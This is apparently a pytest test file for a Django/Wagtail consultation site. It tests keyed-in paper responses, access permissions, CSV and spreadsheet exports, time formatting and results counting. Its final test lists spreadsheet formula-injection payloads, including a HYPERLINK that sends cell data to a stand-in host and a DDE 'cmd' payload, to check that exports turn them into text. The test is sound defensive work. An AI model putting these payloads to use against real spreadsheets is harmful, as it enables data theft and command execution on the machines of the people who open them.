"""Engagement leads key in paper responses, read and export them; results count every channel."""

import csv
import datetime
import io
import threading
import uuid

import openpyxl
import pytest
from django.conf import settings
from django.contrib.auth.models import Group
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from consultations.models import Channel, ConsultationResponse
from consultations.recording import record_response
from demo.factories.consultations import ConsultationQuestionFactory
from demo.factories.people import UserFactory

from .conftest import answers_for

pytestmark = pytest.mark.django_db


def member_of(group):
    user = UserFactory()
    user.groups.add(Group.objects.get(name=group))
    return user


@pytest.fixture
def publisher_client(client):
    client.force_login(member_of("Publishers"))
    return client


def test_publisher_keys_in_a_paper_response(publisher_client, open_consultation):
    url = reverse("consultations_key_in", args=[open_consultation.pk])
    form = publisher_client.get(url)
    assert form.status_code == 200
    assert "How often do you use the unit at night?" in form.content.decode()

    response = publisher_client.post(
        url,
        {
            "keyed-channel": Channel.PAPER,
            "keyed-hear_outcome_email": "reader@example.org",
            "how_often_do_you_use_the_unit_at_night": "Never",
            "what_worries_you_about_the_change": "The bus stops at 6pm.",
        },
        follow=True,
    )
    stored = ConsultationResponse.objects.get()
    assert stored.channel == Channel.PAPER
    assert stored.keyed_in_by is not None
    assert f"Its reference is {stored.reference}" in response.content.decode()
    assert open_consultation.subscriptions.outcome().get().email == "reader@example.org"


def test_an_outcome_address_over_254_characters_is_refused_and_the_answers_kept(publisher_client, open_consultation):
    from .test_questionnaire import ADDRESS_OVER_254

    response = publisher_client.post(
        reverse("consultations_key_in", args=[open_consultation.pk]),
        {
            "keyed-channel": Channel.PAPER,
            "keyed-hear_outcome_email": ADDRESS_OVER_254,
            "what_worries_you_about_the_change": "The bus stops at 6pm.",
        },
    )
    assert response.status_code == 200
    assert "Enter an e-mail address like name@example.org" in response.content.decode()
    assert "The bus stops at 6pm." in response.content.decode()
    assert not ConsultationResponse.objects.exists()


def test_a_paper_form_that_skipped_a_required_question_is_keyed_in_as_written(publisher_client, open_consultation):
    ConsultationQuestionFactory(
        page=open_consultation, label="Which site?", field_type="dropdown", choices="North\nSouth", required=False
    )
    url = reverse("consultations_key_in", args=[open_consultation.pk])
    form = publisher_client.get(url).content.decode()
    assert '<option value="" selected>Choose an answer</option>' in form  # built as the online one is

    publisher_client.post(
        url,
        {"keyed-channel": Channel.PAPER, "what_worries_you_about_the_change": "Parking.", "which_site": ""},
    )
    stored = ConsultationResponse.objects.get()
    assert stored.keyed_in_by is not None
    assert stored.form_data == {"what_worries_you_about_the_change": "Parking."}

    csv = b"".join(
        publisher_client.get(
            reverse("wagtailforms:list_submissions", args=[open_consultation.pk]), {"export": "csv"}
        ).streaming_content
    ).decode()
    header, row = csv.splitlines()[:2]
    assert header.split(",")[3:] == [
        "How often do you use the unit at night?",
        "What worries you about the change?",
        "Which of these would help?",
        "Which site?",
    ]
    assert row.split(",")[1] == "Paper"
    assert row.split(",")[3:] == ["", "Parking.", "", ""]


@pytest.mark.parametrize("channel", [choice for choice in Channel if choice != Channel.ONLINE])
def test_the_message_after_keying_in_reads_well_for_every_channel(publisher_client, open_consultation, channel):
    url = reverse("consultations_key_in", args=[open_consultation.pk])
    html = publisher_client.post(url, {"keyed-channel": channel}, follow=True).content.decode()
    reference = ConsultationResponse.objects.get().reference
    assert f"Response saved. How it reached us: {channel.label}. Its reference is {reference}." in html


def test_editors_cannot_key_in_or_read_responses(client, open_consultation):
    client.force_login(member_of("Editors"))
    # The admin turns a refusal into a redirect to its dashboard with a message.
    assert client.get(reverse("consultations_key_in", args=[open_consultation.pk])).status_code in (302, 403)
    listing = client.get(reverse("wagtailforms:list_submissions", args=[open_consultation.pk]))
    assert listing.status_code in (302, 403)


def test_export_has_channel_and_no_contact_details_unless_asked(publisher_client, open_consultation):
    ConsultationQuestionFactory(page=open_consultation, label="Your e-mail if we may contact you", field_type="email")
    record_response(
        open_consultation,
        {"how_often_do_you_use_the_unit_at_night": "Never", "your_e_mail_if_we_may_contact_you": "pat@example.org"},
        channel=Channel.EVENT,
    )
    url = reverse("wagtailforms:list_submissions", args=[open_consultation.pk])
    listing = publisher_client.get(url).content.decode()
    assert "Download CSV with contact details" in listing
    assert "include_contact=1" in listing

    csv = b"".join(publisher_client.get(url, {"export": "csv"}).streaming_content).decode()
    header, row = csv.splitlines()[:2]
    assert "Channel" in header and "At an event" in row
    assert "pat@example.org" not in csv

    with_contact = b"".join(
        publisher_client.get(url, {"export": "csv", "include_contact": "1"}).streaming_content
    ).decode()
    assert "pat@example.org" in with_contact


def test_the_export_with_contact_details_has_the_address_given_to_hear_the_outcome(publisher_client, open_consultation):
    """The trial's case: no e-mail question, one person ticked 'Tell me what you decide'."""
    Client().post(
        open_consultation.url,
        answers_for(
            open_consultation, uuid.uuid4(), **{"respondent-email": "Sam@Example.org", "respondent-hear_outcome": "on"}
        ),
    )
    url = reverse("wagtailforms:list_submissions", args=[open_consultation.pk])
    plain = b"".join(publisher_client.get(url, {"export": "csv"}).streaming_content).decode()
    with_contact = b"".join(
        publisher_client.get(url, {"export": "csv", "include_contact": "1"}).streaming_content
    ).decode()
    assert "sam@example.org" not in plain
    header, row = with_contact.splitlines()[:2]
    assert header.endswith(",E-mail address to tell the outcome")
    assert row.endswith(",sam@example.org")


@pytest.fixture
def paper_response_at_summer_noon(open_consultation):
    """A response received at noon UTC on 1 July 2026, which is 1pm in the UK."""
    response, _created = record_response(open_consultation, {}, channel=Channel.PAPER)
    noon_utc = datetime.datetime(2026, 7, 1, 12, 0, 0, 123456, tzinfo=datetime.UTC)
    ConsultationResponse.objects.filter(pk=response.pk).update(submit_time=noon_utc)
    return response


@pytest.mark.parametrize("contact", [{}, {"include_contact": "1"}], ids=["plain", "with contact details"])
def test_csv_exports_give_the_time_in_uk_time_to_the_second(
    publisher_client, open_consultation, paper_response_at_summer_noon, contact
):
    url = reverse("wagtailforms:list_submissions", args=[open_consultation.pk])
    csv = b"".join(publisher_client.get(url, {"export": "csv", **contact}).streaming_content).decode()
    assert f"{paper_response_at_summer_noon.reference},Paper,2026-07-01 13:00:00," in csv


def test_the_spreadsheet_export_gives_the_time_in_uk_time_to_the_second(
    publisher_client, open_consultation, paper_response_at_summer_noon
):
    url = reverse("wagtailforms:list_submissions", args=[open_consultation.pk])
    workbook = openpyxl.load_workbook(
        io.BytesIO(b"".join(publisher_client.get(url, {"export": "xlsx"}).streaming_content))
    )
    submitted = list(workbook.active.values)[1][2]
    assert submitted == datetime.datetime(2026, 7, 1, 13, 0, 0)


def test_paper_responses_count_in_published_results_by_channel(client, closed_consultation, settings):
    settings.RESULTS_MIN_COUNT = 1  # counting, not withholding small numbers, is tested here
    question = ConsultationQuestionFactory(
        page=closed_consultation, label="Should transport be free for carers?", field_type="radio", choices="Yes\nNo"
    )
    name = question.clean_name
    for channel, answer in [
        (Channel.ONLINE, "Yes"),
        (Channel.ONLINE, "Yes"),
        (Channel.PAPER, "No"),
        (Channel.PAPER, "Yes"),
    ]:
        record_response(closed_consultation, {name: answer}, channel=channel)
    closed_consultation.results_published = True
    closed_consultation.save_revision().publish()

    html = client.get(closed_consultation.url).content.decode()
    assert "We received 4 responses" in html
    assert "What people told us" in html
    # Two online, two paper: 50% each, in the chart and its table.
    assert '<th scope="row" class="nhsuk-table__header">Paper</th>' in html
    assert '<meter class="result-chart__meter" min="0" max="100" value="50">' in html
    # Three of four said yes.
    assert '<td class="nhsuk-table__cell nhsuk-table__cell--numeric">75%</td>' in html


def test_results_stay_hidden_until_the_editor_publishes_them(client, closed_consultation):
    record_response(closed_consultation, {}, channel=Channel.PHONE)
    assert "What people told us" not in client.get(closed_consultation.url).content.decode()


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
@pytest.mark.skipif(
    settings.DATABASES["default"]["ENGINE"] != "django.db.backends.postgresql",
    reason="concurrent writers need a server database; run with TEST_DATABASE_URL (make test does)",
)
def test_twenty_people_answering_at_once_store_twenty_responses(open_consultation):
    url = open_consultation.url
    barrier = threading.Barrier(20)
    statuses = []

    def answer():
        client = Client()
        barrier.wait()
        statuses.append(client.post(url, answers_for(open_consultation, uuid.uuid4())).status_code)
        connection.close()

    people = [threading.Thread(target=answer) for _ in range(20)]
    for person in people:
        person.start()
    for person in people:
        person.join(timeout=60)
    assert statuses == [302] * 20
    assert ConsultationResponse.objects.count() == 20
    assert len(set(ConsultationResponse.objects.values_list("reference", flat=True))) == 20


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
@pytest.mark.skipif(
    settings.DATABASES["default"]["ENGINE"] != "django.db.backends.postgresql",
    reason="concurrent writers need a server database; run with TEST_DATABASE_URL (make test does)",
)
def test_the_same_form_sent_twice_at_once_stores_one(open_consultation):
    token = uuid.uuid4()
    barrier = threading.Barrier(2)

    def answer():
        barrier.wait()
        Client().post(open_consultation.url, answers_for(open_consultation, token))
        connection.close()

    twins = [threading.Thread(target=answer) for _ in range(2)]
    for twin in twins:
        twin.start()
    for twin in twins:
        twin.join(timeout=60)
    assert ConsultationResponse.objects.count() == 1


def test_closing_time_is_checked_when_the_answers_arrive(client, open_consultation):
    """The form was shown while open; by the time it is sent the consultation has closed."""
    token = uuid.uuid4()
    client.get(open_consultation.url)
    open_consultation.closes_at = timezone.now() - datetime.timedelta(seconds=1)
    open_consultation.save_revision().publish()
    assert client.post(open_consultation.url, answers_for(open_consultation, token)).status_code == 403
    assert not ConsultationResponse.objects.exists()


def test_contact_details_need_their_own_permission(client, open_consultation):
    """Someone who may read responses but not contact details gets no addresses, even by
    asking for them in the address bar."""
    ConsultationQuestionFactory(page=open_consultation, label="Your e-mail if we may contact you", field_type="email")
    record_response(open_consultation, {"your_e_mail_if_we_may_contact_you": "pat@example.org"}, channel=Channel.PAPER)
    analyst = member_of("Publishers")
    publishers_without_contact = Group.objects.create(name="Analysts")
    publishers_without_contact.permissions.set(
        Group.objects.get(name="Publishers").permissions.exclude(codename="view_contact_details")
    )
    analyst.groups.set([publishers_without_contact])
    for permission in Group.objects.get(name="Publishers").page_permissions.all():
        publishers_without_contact.page_permissions.create(page=permission.page, permission=permission.permission)
    client.force_login(analyst)

    url = reverse("wagtailforms:list_submissions", args=[open_consultation.pk])
    assert "with contact details" not in client.get(url).content.decode()
    csv = b"".join(client.get(url, {"export": "csv", "include_contact": "1"}).streaming_content).decode()
    assert "Paper" in csv
    assert "pat@example.org" not in csv


FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_answers_that_look_like_formulas_download_as_text(publisher_client, open_consultation, formula):
    """A spreadsheet runs a CSV cell that starts with = + - or @; the export makes it text."""
    Client().post(
        open_consultation.url,
        answers_for(open_consultation, uuid.uuid4(), what_worries_you_about_the_change=formula),
    )
    url = reverse("wagtailforms:list_submissions", args=[open_consultation.pk])

    for contact in ({}, {"include_contact": "1"}):
        export = b"".join(publisher_client.get(url, {"export": "csv", **contact}).streaming_content).decode()
        header, row = csv.reader(io.StringIO(export))
        assert row[header.index("What worries you about the change?")] == "'" + formula

    workbook = openpyxl.load_workbook(
        io.BytesIO(b"".join(publisher_client.get(url, {"export": "xlsx"}).streaming_content))
    )
    assert formula in [cell.value for cell in workbook.active[2]], "the spreadsheet keeps the words as written"
